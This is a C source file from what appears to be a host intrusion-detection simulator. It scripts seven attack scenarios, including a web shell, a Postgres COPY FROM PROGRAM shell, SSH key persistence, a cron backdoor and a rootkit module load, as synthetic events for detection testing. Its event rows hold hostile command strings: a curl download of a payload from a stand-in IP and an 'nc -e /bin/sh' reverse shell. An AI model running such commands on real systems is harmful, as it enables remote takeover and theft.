/* SPDX-License-Identifier: GPL-2.0-or-later */
/* attack - scripts of intrusions, as rows; played into a simulated host's stream. */
#include "sim/attack.h"

#include "lib/compiler.h"

#include <stdio.h>
#include <string.h>

#define NGINX    "nginx"
#define POSTGRES "postgresql@15-main"

static const struct attack_step web_shell[] = {
	{ 0, 0, DS_EVENT_EXEC, NGINX, 40111, 512, 33, "/bin/sh", "/usr/sbin/nginx", "sh\n-c\nid", 0,
	    0, 0, { 0 }, 0 },
	{ 40, 0, DS_EVENT_EXEC, NGINX, 40112, 40111, 33, "/usr/bin/id", "/bin/sh", "id", 0, 0, 0,
	    { 0 }, 0 },
	{ 3000, 0, DS_EVENT_EXEC, NGINX, 40120, 40111, 33, "/usr/bin/curl", "/bin/sh",
	    "curl\n-so\n/tmp/.x\nhttp://198.51.100.23/x", 0, 0, 0, { 0 }, 0 },
	{ 60, 0, DS_EVENT_CONNECT, NGINX, 40120, 0, 33, "/usr/bin/curl", 0, 0, 0, 0, 0,
	    { 198, 51, 100, 23 }, 80 },
	{ 200, 0, DS_EVENT_FILE_CREATE, NGINX, 40120, 0, 33, "/usr/bin/curl", 0, 0, "/tmp/.x", 0, 0,
	    { 0 }, 0 },
	{ 900, 0, DS_EVENT_EXEC, NGINX, 40131, 40111, 33, "/tmp/.x", "/bin/sh", "/tmp/.x\n-d", 0, 0,
	    0, { 0 }, 0 },
	{ 500, 0, DS_EVENT_CONNECT, NGINX, 40131, 0, 33, "/tmp/.x", 0, 0, 0, 0, 0,
	    { 203, 0, 113, 77 }, 4444 },
};

static const struct attack_step copy_from_program[] = {
	{ 0, 0, DS_EVENT_EXEC, POSTGRES, 41200, 540, 114, "/bin/sh",
	    "/usr/lib/postgresql/15/bin/postgres", "sh\n-c\nwhoami", 0, 0, 0, { 0 }, 0 },
	{ 20, 0, DS_EVENT_EXEC, POSTGRES, 41201, 41200, 114, "/usr/bin/whoami", "/bin/sh", "whoami",
	    0, 0, 0, { 0 }, 0 },
	{ 5000, 0, DS_EVENT_EXEC, POSTGRES, 41210, 540, 114, "/bin/sh",
	    "/usr/lib/postgresql/15/bin/postgres", "sh\n-c\nnc 203.0.113.9 9001 -e /bin/sh", 0, 0,
	    0, { 0 }, 0 },
	{ 30, 0, DS_EVENT_CONNECT, POSTGRES, 41211, 0, 114, "/usr/bin/nc.traditional", 0, 0, 0, 0,
	    0, { 203, 0, 113, 9 }, 9001 },
};

static const struct attack_step ssh_guess[] = {
	{ 300, 40, DS_EVENT_LOGIN, "sshd", 42000, 0, 0, 0, 0, 0, 0, "root", 2, { 192, 0, 2, 66 },
	    0 },
	{ 300, 25, DS_EVENT_LOGIN, "sshd", 42001, 0, 0, 0, 0, 0, 0, "deploy", 2, { 192, 0, 2, 66 },
	    0 },
	{ 800, 0, DS_EVENT_LOGIN, "sshd", 42002, 0, 0, 0, 0, 0, 0, "deploy", 1, { 192, 0, 2, 66 },
	    0 },
	{ 400, 0, DS_EVENT_EXEC, "sshd/session", 42010, 42002, 1003, "/usr/bin/bash",
	    "/usr/sbin/sshd", "-bash", 0, 0, 0, { 0 }, 0 },
	{ 4000, 0, DS_EVENT_FILE_WRITE, "sshd/session", 42010, 0, 1003, "/usr/bin/bash", 0, 0,
	    "/home/deploy/.ssh/authorized_keys", 0, 0, { 0 }, 0 },
};

static const struct attack_step cron_backdoor[] = {
	{ 0, 0, DS_EVENT_FILE_CREATE, NGINX, 43000, 0, 0, "/usr/sbin/nginx", 0, 0,
	    "/etc/cron.d/.update", 0, 0, { 0 }, 0 },
	{ 5000, 0, DS_EVENT_EXEC, "cron/job", 43010, 600, 0, "/usr/bin/python3.11", "/usr/bin/dash",
	    "python3\n-c\nimport pty", 0, 0, 0, { 0 }, 0 },
	{ 300, 0, DS_EVENT_LISTEN, "cron/job", 43010, 0, 0, "/usr/bin/python3.11", 0, 0, 0, 0, 0,
	    { 0 }, 31337 },
};

static const struct attack_step privilege[] = {
	{ 0, 0, DS_EVENT_EXEC_MEMORY, NGINX, 44000, 512, 33, "memfd:kworker", "/usr/sbin/nginx",
	    "kworker", 0, 0, 0, { 0 }, 0 },
	{ 200, 0, DS_EVENT_SETUID, NGINX, 44000, 0, 33, "memfd:kworker", 0, 0, 0, 0, 0, { 0 }, 0 },
	{ 100, 0, DS_EVENT_PTRACE, NGINX, 44000, 0, 0, "memfd:kworker", 0, 0, 0, 0, 0, { 0 }, 0 },
	{ 900, 0, DS_EVENT_FILE_READ, NGINX, 44000, 0, 0, "memfd:kworker", 0, 0, "/etc/shadow", 0,
	    0, { 0 }, 0 },
	{ 900, 0, DS_EVENT_MODULE_LOAD, NGINX, 44000, 0, 0, "memfd:kworker", 0, 0, "/tmp/.k.ko", 0,
	    0, { 0 }, 0 },
};

static const struct attack_step trojan[] = {
	{ 0, 0, DS_EVENT_INTEGRITY, "sshd", 0, 0, 0, 0, 0, 0, "/usr/sbin/sshd", 0, 2, { 0 }, 0 },
};

static const struct attack_step worm[] = {
	{ 0, 0, DS_EVENT_EXEC, "postfix", 45000, 570, 107, "/var/tmp/.w",
	    "/usr/lib/postfix/sbin/local", "/var/tmp/.w", 0, 0, 0, { 0 }, 0 },
	{ 100, 12, DS_EVENT_CONNECT, "postfix", 45000, 0, 107, "/var/tmp/.w", 0, 0, 0, 0, 0,
	    { 10, 0, 9, 9 }, 25 },
};

#define ATTACK(name, text, wave)                      \
	{                                             \
#name, text, name, DS_LEN(name), wave \
	}

const struct attack attack_table[] = {
	ATTACK(web_shell, "a web shell: nginx starts sh, downloads and runs a program", false),
	ATTACK(copy_from_program, "postgres starts sh (COPY FROM PROGRAM)", false),
	ATTACK(ssh_guess, "guessed passwords, then a login and a key of one's own", false),
	ATTACK(cron_backdoor, "nginx writes a cron job that listens", false),
	ATTACK(privilege, "a program in memory becomes root and loads a module", false),
	ATTACK(trojan, "sshd's binary is replaced", false),
	ATTACK(worm, "the same new program on several hosts", true),
};
const unsigned attack_table_len = DS_LEN(attack_table);

void
attack_begin(struct attack_run *run, const struct attack *attack, uint64_t now_us)
{
	*run = (struct attack_run){ .attack = attack, .next_us = now_us };
	run->next_us += attack->steps[0].after_ms * 1000ull;
}

static void
text_set(struct ds_event *ev, enum ds_str_field field, const char *text)
{
	if (text != NULL)
		ds_event_set_str(ev, field, text, strlen(text));
}

static void
args_set(struct attack_run *run, const char *text, struct ds_event *ev)
{
	size_t len;

	if (text == NULL)
		return;
	len = strlen(text);
	len = DS_MIN(len, sizeof(run->args));
	for (size_t i = 0; i < len; i++)
		run->args[i] = text[i] == '\n' ? '\0' : text[i];
	ds_event_set_str(ev, DS_STR_ARGS, run->args, len);
}

static void
step_fill(struct attack_run *run, const struct attack_step *s, struct ds_event *ev)
{
	bool is_incoming = s->kind == DS_EVENT_LOGIN;

	*ev = (struct ds_event){ .kind = s->kind, .count = 1, .time_us = run->next_us };
	ev->daemon = (struct ds_str){ s->daemon, (uint32_t)strlen(s->daemon) };
	ev->flags = run->repeated == 0 ? DS_FLAG_FIRST : 0;
	ev->num[DS_NUM_PID] = s->pid;
	ev->num[DS_NUM_PPID] = s->ppid;
	ev->num[DS_NUM_UID] = s->uid;
	ev->num[DS_NUM_START] = run->next_us;
	ev->num[DS_NUM_OUTCOME] = s->outcome;
	ev->num[DS_NUM_DPORT] = s->port;
	ev->num[DS_NUM_PROTO] = s->port != 0 ? 6 : 0;
	ev->num[DS_NUM_SPORT] = is_incoming ? 40000 + run->repeated : 0;
	text_set(ev, DS_STR_EXE, s->exe);
	text_set(ev, DS_STR_PARENT_EXE, s->parent);
	text_set(ev, DS_STR_PATH, s->path);
	text_set(ev, DS_STR_USER, s->user);
	args_set(run, s->args, ev);
	if (is_incoming) {
		text_set(ev, DS_STR_METHOD, "password");
		text_set(ev, DS_STR_SOURCE, "journal");
	}
	if (s->address[0] != 0)
		ds_event_set_str(ev, is_incoming ? DS_STR_SADDR : DS_STR_DADDR, s->address, 4);
	if (s->kind == DS_EVENT_INTEGRITY) {
		for (unsigned i = 0; i < sizeof(run->hash); i++)
			run->hash[i] = (uint8_t)(i * 73 + 5);
		ds_event_set_str(ev, DS_STR_SHA256, run->hash, sizeof(run->hash));
		text_set(ev, DS_STR_PACKAGE, "openssh-server");
		text_set(ev, DS_STR_MESSAGE, "the package database does not agree");
	}
}

bool
attack_next(struct attack_run *run, uint64_t until_us, struct ds_event *ret)
{
	const struct attack_step *s;

	if (run->attack == NULL || run->next_us > until_us)
		return false;
	s = &run->attack->steps[run->step];
	step_fill(run, s, ret);
	if (run->repeated++ >= s->repeat) {
		run->repeated = 0;
		run->step++;
	}
	if (run->step == run->attack->len)
		run->attack = NULL;
	else
		run->next_us += run->attack->steps[run->step].after_ms * 1000ull;
	return true;
}

const struct attack *
attack_find(const char *name)
{
	for (unsigned i = 0; i < attack_table_len; i++)
		if (strcmp(attack_table[i].name, name) == 0)
			return &attack_table[i];
	return NULL;
}
